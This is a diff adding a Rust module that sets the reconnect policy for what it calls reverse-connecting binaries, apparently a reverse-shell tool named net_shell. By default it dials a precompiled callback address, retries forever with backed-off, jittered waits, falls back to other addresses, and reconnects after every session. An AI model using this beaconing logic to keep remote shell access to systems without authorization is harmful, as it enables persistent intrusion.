@@ -0,0 +1,167 @@
+// src/reconnect.rs
+//! Shared connect/reconnect policy for the reverse-connecting binaries
+//! (net_shell, net_mini_client): exponential backoff with jitter, a
+//! bounded number of attempts, fallback addresses and connect timeouts.
+//! Each setting has an option in `RECONNECT_OPTS` and an environment
+//! variable.
+
+use std::io;
+use std::net::TcpStream;
+use std::thread;
+use std::time::Duration;
+
+use log::{error, info, warn};
+
+use crate::addr;
+use crate::cli::{Matches, Opt, PRECOMPILED_ADDRESS};
+
+/// First wait between attempts, in milliseconds.
+pub const DELAY_ENV_VAR: &str = "RECONNECT_DELAY_MS";
+/// Longest wait between attempts, in milliseconds.
+pub const MAX_DELAY_ENV_VAR: &str = "RECONNECT_MAX_DELAY_MS";
+/// Failed attempts in a row before giving up; 0 for no limit.
+pub const MAX_ATTEMPTS_ENV_VAR: &str = "RECONNECT_MAX_ATTEMPTS";
+/// Limit on each TCP connect, in milliseconds.
+pub const CONNECT_TIMEOUT_ENV_VAR: &str = "CONNECT_TIMEOUT_MS";
+/// `1`/`true`/`yes`: serve one session, then exit.
+pub const ONE_SHOT_ENV_VAR: &str = "ONE_SHOT";
+
+/// Options for `ReconnectPolicy::from_matches`, besides the address.
+pub const RECONNECT_OPTS: &[Opt] = &[
+    Opt::value("connect-timeout", "MS", "Limit on each connect attempt").env(CONNECT_TIMEOUT_ENV_VAR).default("10000"),
+    Opt::value("retry-delay", "MS", "First wait between attempts; doubles after each failure")
+        .env(DELAY_ENV_VAR)
+        .default("1000"),
+    Opt::value("max-retry-delay", "MS", "Longest wait between attempts").env(MAX_DELAY_ENV_VAR).default("60000"),
+    Opt::value("max-attempts", "N", "Failed attempts in a row before giving up; 0 for no limit")
+        .env(MAX_ATTEMPTS_ENV_VAR)
+        .default("0"),
+    Opt::switch("one-shot", "Serve one session, then exit").env(ONE_SHOT_ENV_VAR),
+];
+
+/// How to (re)connect: which addresses, how long to wait between rounds,
+/// and when to give up.
+#[derive(Debug, Clone)]
+pub struct ReconnectPolicy {
+    /// Tried in order on every attempt.
+    pub addresses: Vec<String>,
+    /// Wait after the first failed attempt; doubled after each further one.
+    pub initial_delay: Duration,
+    /// Upper bound on the wait between attempts.
+    pub max_delay: Duration,
+    /// Each wait is randomised by up to this fraction either way.
+    pub jitter: f64,
+    /// Failed attempts in a row before giving up; `None` retries forever.
+    pub max_attempts: Option<u32>,
+    /// Limit on each TCP connect attempt.
+    pub connect_timeout: Duration,
+    /// Serve a single session instead of reconnecting after it ends.
+    pub one_shot: bool,
+}
+
+impl ReconnectPolicy {
+    /// Default policy for `addresses`: 1s doubling to 60s with 20% jitter,
+    /// unlimited attempts and 10s connect timeouts.
+    pub fn new(addresses: Vec<String>) -> Self {
+        ReconnectPolicy {
+            addresses,
+            initial_delay: Duration::from_secs(1),
+            max_delay: Duration::from_secs(60),
+            jitter: 0.2,
+            max_attempts: None,
+            connect_timeout: Duration::from_secs(10),
+            one_shot: false,
+        }
+    }
+
+    /// Policy from parsed options: the addresses from `--address` (comma
+    /// separated, by default the precompiled one) and `--port`, the rest
+    /// from `RECONNECT_OPTS`.
+    pub fn from_matches(matches: &Matches) -> Self {
+        let addresses = matches
+            .address_or(PRECOMPILED_ADDRESS)
+            .split(',')
+            .map(str::trim)
+            .filter(|a| !a.is_empty())
+            .map(String::from)
+            .collect();
+        let mut policy = ReconnectPolicy::new(addresses);
+        if let Some(ms) = matches.get("retry-delay") {
+            policy.initial_delay = Duration::from_millis(ms);
+        }
+        if let Some(ms) = matches.get("max-retry-delay") {
+            policy.max_delay = Duration::from_millis(ms);
+        }
+        if let Some(n) = matches.get::<u32>("max-attempts") {
+            policy.max_attempts = (n > 0).then_some(n);
+        }
+        if let Some(ms) = matches.get("connect-timeout").filter(|&ms| ms > 0) {
+            policy.connect_timeout = Duration::from_millis(ms);
+        }
+        policy.one_shot = matches.is_set("one-shot");
+        policy
+    }
+
+    /// Wait before retrying after `failures` failed attempts in a row.
+    pub fn delay(&self, failures: u32) -> Duration {
+        let base = self
+            .initial_delay
+            .saturating_mul(2u32.saturating_pow(failures.saturating_sub(1)))
+            .min(self.max_delay);
+        if self.jitter <= 0.0 {
+            return base;
+        }
+        let factor = rand::random_range(1.0 - self.jitter..=1.0 + self.jitter);
+        base.mul_f64(factor.max(0.0))
+    }
+
+    /// Connects to the first address that answers, retrying with backoff
+    /// until `max_attempts` attempts in a row have failed.
+    pub fn connect(&self) -> io::Result<TcpStream> {
+        let mut failures = 0;
+        loop {
+            let mut last_err = io::Error::new(io::ErrorKind::InvalidInput, "no address to connect to");
+            for address in &self.addresses {
+                info!("Attempting to connect to {}", address);
+                match addr::connect(address, self.connect_timeout) {
+                    Ok(stream) => {
+                        info!("Connected to {}", address);
+                        return Ok(stream);
+                    }
+                    Err(e) => {
+                        warn!("Connection to {} failed: {}", address, e);
+                        last_err = e;
+                    }
+                }
+            }
+
+            // One-shot mode makes a single round unless a limit is set
+            failures += 1;
+            let limit = self.max_attempts.or(self.one_shot.then_some(1));
+            if limit.is_some_and(|max| failures >= max) {
+                return Err(last_err);
+            }
+            let delay = self.delay(failures);
+            info!("Retrying in {:.1}s...", delay.as_secs_f64());
+            thread::sleep(delay);
+        }
+    }
+
+    /// Connects and runs `session` on each connection, reconnecting after
+    /// it ends unless `one_shot` is set. Returns when connecting gives up.
+    pub fn run<F>(&self, mut session: F) -> io::Result<()>
+    where
+        F: FnMut(TcpStream) -> io::Result<()>,
+    {
+        loop {
+            let stream = self.connect()?;
+            if let Err(e) = session(stream) {
+                error!("Error in session: {}", e);
+            }
+            if self.one_shot {
+                return Ok(());
+            }
+            info!("Connection ended. Will reconnect...");
+        }
+    }
+}